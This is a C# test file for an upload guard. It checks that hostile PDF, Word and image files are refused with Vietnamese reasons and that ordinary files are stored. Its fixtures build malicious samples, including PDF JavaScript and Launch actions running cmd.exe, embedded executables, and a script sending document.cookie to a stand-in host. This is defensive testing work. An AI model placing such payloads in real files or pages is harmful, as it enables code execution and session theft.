using System.Globalization;
using Microsoft.Extensions.DependencyInjection;
using OneStop.Platform.Storage;
using OneStop.Platform.TestKit;
using OneStop.Platform.Web;
using static OneStop.Platform.Tests.Storage.HostileFiles;

namespace OneStop.Platform.Tests.Storage;

/// <summary>
/// The upload guard's deep check (ADR 0033), one hostile file class per case, against a file-system blob store in a
/// folder of its own: every refusal names its reason in Vietnamese and leaves no file behind; ordinary files pass.
/// </summary>
public sealed class UploadGuardDeepCheckTests : IDisposable
{
    private static readonly UploadRules Rules = new(20 * 1024 * 1024, [FileTypes.Pdf, FileTypes.Jpeg, FileTypes.Png, FileTypes.Tiff, FileTypes.Docx, FileTypes.Xlsx], "Test.UploadRejected");

    private readonly string _root = Path.Combine(Path.GetTempPath(), "onestop-guard-" + Guid.NewGuid().ToString("N"));
    private readonly ServiceProvider _services;
    private readonly CultureInfo _culture = CultureInfo.CurrentUICulture;

    public UploadGuardDeepCheckTests()
    {
        CultureInfo.CurrentUICulture = new CultureInfo("vi-VN");
        _services = Guard(_root, new NoVirusScanner());
    }

    internal static ServiceProvider Guard(string root, IVirusScanner scanner) => new ServiceCollection()
        .AddLogging()
        .AddSingleton(TimeProvider.System)
        .AddSingleton(Microsoft.Extensions.Options.Options.Create(new BlobStorageOptions()))
        .AddSingleton<IBlobStore>(new FileSystemBlobStore(root))
        .AddSingleton(scanner)
        .AddSingleton<OrphanBlobs>()
        .AddSingleton<UploadGuard>()
        .BuildServiceProvider();

    private UploadGuard Uploads => _services.GetRequiredService<UploadGuard>();

    public static TheoryData<string, string, string, string> HostileCases() => new()
    {
        // name, kind, message code, a phrase of the Vietnamese text
        { "to-trinh.pdf", "pdf-javascript", PlatformMessages.UploadPdfJavaScript, "chứa mã JavaScript" },
        { "to-trinh.pdf", "pdf-javascript-in-object-stream", PlatformMessages.UploadPdfJavaScript, "chứa mã JavaScript" },
        { "to-trinh.pdf", "pdf-xfa-script", PlatformMessages.UploadPdfJavaScript, "chứa mã JavaScript" },
        { "to-trinh.pdf", "pdf-launch", PlatformMessages.UploadPdfLaunch, "lệnh mở chương trình" },
        { "to-trinh.pdf", "pdf-launch-hex-escaped", PlatformMessages.UploadPdfLaunch, "lệnh mở chương trình" },
        { "to-trinh.pdf", "pdf-embedded-file", PlatformMessages.UploadPdfEmbeddedFile, "tệp khác nhúng bên trong" },
        { "to-trinh.pdf", "pdf-executable", PlatformMessages.UploadPdfForeignPayload, "chương trình, trang HTML hoặc mã kịch bản" },
        { "to-trinh.pdf", "pdf-html", PlatformMessages.UploadPdfForeignPayload, "chương trình, trang HTML hoặc mã kịch bản" },
        { "to-trinh.pdf", "pdf-data-after-eof", PlatformMessages.UploadPdfTrailingData, "sau dấu kết thúc %%EOF" },
        { "to-trinh.pdf", "pdf-header-only", PlatformMessages.UploadPdfMalformed, "không đúng cấu trúc PDF" },
        { "bao-cao.docx", "docx-ole", PlatformMessages.UploadOfficeEmbeddedObject, "đối tượng nhúng" },
        { "bao-cao.docx", "docx-renamed-macro", PlatformMessages.UploadOfficeMacro, "chứa macro" },
        { "bao-cao.docx", "docx-remote-template", PlatformMessages.UploadOfficeExternalLink, "mẫu hoặc tài nguyên bên ngoài" },
        { "bao-cao.docx", "docx-zip-bomb", PlatformMessages.UploadOfficeTooLarge, "bom nén" },
        { "anh.png", "png-truncated", PlatformMessages.UploadImageBroken, "Tệp ảnh bị hỏng" },
        { "anh.png", "png-bad-crc", PlatformMessages.UploadImageBroken, "Tệp ảnh bị hỏng" },
        { "anh.png", "png-zero-width", PlatformMessages.UploadImageBroken, "Tệp ảnh bị hỏng" },
        { "anh.jpg", "jpeg-no-frame", PlatformMessages.UploadImageBroken, "Tệp ảnh bị hỏng" },
    };

    private static byte[] Hostile(string kind) => kind switch
    {
        "pdf-javascript" => Pdf("3 0 obj<</S/JavaScript/JS(app.alert('x'))>>endobj\n"),
        "pdf-javascript-in-object-stream" => Pdf(ObjectStream(3, "<</Type/Action/S/J#61vaScript/JS(app.alert\\('x'\\))>>")),
        "pdf-xfa-script" => Pdf("3 0 obj<</Fields[]/XFA 4 0 R>>endobj\n", ObjectStreamLike(4, "<xdp:xdp><template><subform><event activity=\"initialize\"><script contentType=\"application/x-javascript\">app.alert(1)</script></event></subform></template></xdp:xdp>")),
        "pdf-launch" => Pdf("3 0 obj<</Type/Action/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>endobj\n"),
        "pdf-launch-hex-escaped" => Pdf("3 0 obj<</Type/Action/S/L#61unch/F(run.sh)>>endobj\n"),
        "pdf-embedded-file" => Pdf("3 0 obj<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>endobj\n4 0 obj<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>endobj\n5 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream\nendobj\n"),
        "pdf-executable" => [.. Ascii("%PDF-1.4\n"), 0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, .. Ascii("\nThis program cannot be run in DOS mode.\n"), .. Pdf()[9..]],
        "pdf-html" => [.. Ascii("%PDF-1.4\n<html><body><script>document.location='https://x.example/'+document.cookie</script></body></html>\n"), .. Pdf()[9..]],
        "pdf-data-after-eof" => [.. GoodPdf(), .. Ascii("\nPK\u0003\u0004 tệp khác dán vào sau")],
        "pdf-header-only" => Ascii("%PDF-1.7\nkhông có gì ở đây"),
        "docx-ole" => DocxWithOleObject(),
        "docx-renamed-macro" => DocxWithRenamedMacroPart(),
        "docx-remote-template" => DocxWithRemoteTemplate(),
        "docx-zip-bomb" => ZipBombDocx(),
        "png-truncated" => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1],
        "png-bad-crc" => Png() is var png ? [.. png[..^13], (byte)(png[^13] ^ 0xFF), .. png[^12..]] : [],
        "png-zero-width" => Png(width: 0),
        "jpeg-no-frame" => [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x04, 0x00, 0x00, 0xFF, 0xDA, 0x00, 0x02, 0x00, 0xFF, 0xD9],
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    /// <summary>An XFA packet in a compressed stream (not an object stream): the script is only visible once inflated.</summary>
    private static byte[] ObjectStreamLike(int number, string xml)
    {
        using var compressed = new MemoryStream();
        using (var z = new System.IO.Compression.ZLibStream(compressed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
        {
            z.Write(System.Text.Encoding.UTF8.GetBytes(xml));
        }

        var data = compressed.ToArray();
        return [.. Ascii($"{number} 0 obj<</Filter/FlateDecode/Length {data.Length}>>stream\n"), .. data, .. Ascii("\nendstream\nendobj\n")];
    }

    [Theory]
    [MemberData(nameof(HostileCases))]
    public async Task A_hostile_file_is_refused_with_its_reason_in_Vietnamese_and_leaves_nothing(string name, string kind, string messageCode, string phrase)
    {
        var refused = await Should.ThrowAsync<UploadRejectedException>(() => Uploads.AcceptAsync(name, new MemoryStream(Hostile(kind)), Rules));

        refused.Reason.ShouldBe(UploadRefusal.Unsafe);
        refused.StatusCode.ShouldBe(400);
        refused.Code.ShouldBe("Test.UploadRejected");
        refused.MessageCode.ShouldBe(messageCode);
        refused.Message.ShouldContain(phrase);
        refused.Message.ShouldContain("không được chấp nhận");
        FilesUnder(_root).ShouldBeEmpty();
    }

    public static TheoryData<string, string, string> OrdinaryCases() => new()
    {
        { "bien-ban.pdf", "pdf", FileTypes.Pdf },
        { "bien-ban.pdf", "pdf-incremental-update", FileTypes.Pdf },
        { "bien-ban.pdf", "pdf-with-object-stream", FileTypes.Pdf },
        { "bao-cao.docx", "docx", FileTypes.Docx },
        { "bao-cao.docx", "docx-sdk", FileTypes.Docx },
        { "bao-cao.docx", "docx-hyperlink", FileTypes.Docx },
        { "so-lieu.xlsx", "xlsx", FileTypes.Xlsx },
        { "anh-hoi-nghi.png", "png", FileTypes.Png },
        { "anh-hoi-nghi.jpg", "jpeg", FileTypes.Jpeg },
    };

    private static byte[] Ordinary(string kind) => kind switch
    {
        "pdf" => GoodPdf(),
        // An incremental update: a second body, xref and trailer, ending in its own %%EOF.
        "pdf-incremental-update" => [.. GoodPdf(), .. Ascii("\n9 0 obj<</Type/Annot/Subtype/Text/Contents(Đã xem)>>endobj\ntrailer<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF\n")],
        "pdf-with-object-stream" => Pdf(ObjectStream(3, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")),
        "docx" => Docx(),
        "docx-sdk" => SdkDocx(),
        "docx-hyperlink" => DocxWithHyperlink(),
        "xlsx" => Xlsx(),
        "png" => Png(),
        "jpeg" => Jpeg(),
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    private static byte[] SdkDocx() => SampleFiles.Docx("Báo cáo");

    private static byte[] Xlsx() => SampleFiles.Xlsx("Số liệu", "Số hồ sơ tiếp nhận");

    [Theory]
    [MemberData(nameof(OrdinaryCases))]
    public async Task An_ordinary_file_is_accepted(string name, string kind, string contentType)
    {
        var bytes = Ordinary(kind);
        var accepted = await Uploads.AcceptAsync(name, new MemoryStream(bytes), Rules);

        accepted.ContentType.ShouldBe(contentType);
        accepted.Blob.Length.ShouldBe(bytes.Length);
        (await _services.GetRequiredService<IBlobStore>().ExistsAsync(accepted.Blob.Key)).ShouldBeTrue();
    }

    [Fact]
    public async Task A_refused_file_takes_back_the_files_the_same_request_stored_before_it()
    {
        var store = _services.GetRequiredService<IBlobStore>();
        BlobsCreatedInRequest.Begin();
        try
        {
            var first = await Uploads.AcceptAsync("bien-ban.pdf", new MemoryStream(GoodPdf()), Rules);
            var second = await Uploads.AcceptAsync("anh.png", new MemoryStream(Png()), Rules);
            (await store.ExistsAsync(first.Blob.Key)).ShouldBeTrue();

            await Should.ThrowAsync<UploadRejectedException>(() => Uploads.AcceptAsync("bao-cao.docx", new MemoryStream(DocxWithOleObject()), Rules));

            (await store.ExistsAsync(first.Blob.Key)).ShouldBeFalse();
            (await store.ExistsAsync(second.Blob.Key)).ShouldBeFalse();
            FilesUnder(_root).ShouldBeEmpty();
        }
        finally
        {
            BlobsCreatedInRequest.End();
        }
    }

    [Fact]
    public async Task A_file_stored_before_the_request_is_not_taken_back_by_its_refusal()
    {
        var store = _services.GetRequiredService<IBlobStore>();
        var pdf = GoodPdf();
        var earlier = await Uploads.AcceptAsync("bien-ban.pdf", new MemoryStream(pdf), Rules);
        BlobsCreatedInRequest.Begin();
        try
        {
            // The same content again: already stored (and maybe referenced), so this request did not create it.
            (await Uploads.AcceptAsync("ban-sao.pdf", new MemoryStream(pdf), Rules)).Blob.Created.ShouldBeFalse();
            await Should.ThrowAsync<UploadRejectedException>(() => Uploads.AcceptAsync("x.pdf", new MemoryStream(Hostile("pdf-launch")), Rules));
            (await store.ExistsAsync(earlier.Blob.Key)).ShouldBeTrue();
        }
        finally
        {
            BlobsCreatedInRequest.End();
        }
    }

    internal static IReadOnlyList<string> FilesUnder(string root) =>
        Directory.Exists(root) ? Directory.GetFiles(root, "*", SearchOption.AllDirectories) : [];

    public void Dispose()
    {
        CultureInfo.CurrentUICulture = _culture;
        _services.Dispose();
        if (Directory.Exists(_root))
        {
            Directory.Delete(_root, recursive: true);
        }
    }
}
